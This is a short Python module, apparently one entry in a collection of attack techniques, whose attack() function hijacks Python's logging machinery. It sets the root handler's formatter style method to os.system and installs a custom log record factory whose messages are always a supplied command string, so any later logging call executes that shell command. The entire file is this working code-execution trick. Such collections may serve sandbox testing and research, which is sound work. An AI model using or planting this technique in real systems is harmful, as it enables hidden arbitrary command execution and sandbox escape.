"""A record is a command, and a formatter's style has a function of C."""
CATEGORY = "callable"
REACH = "run"

import logging
import os

from . import payload


class Record(str):
    levelno = logging.CRITICAL
    name = "root"
    exc_info = exc_text = stack_info = None

    def getMessage(self):
        return self

    def __new__(cls, *args):
        return str.__new__(cls, payload.COMMAND)

    def __init__(self, *args):
        pass


def attack():
    formatter = logging.Formatter()
    formatter._style.format = os.system
    logging.getLogger().handlers[0].formatter = formatter
    logging.setLogRecordFactory(Record)
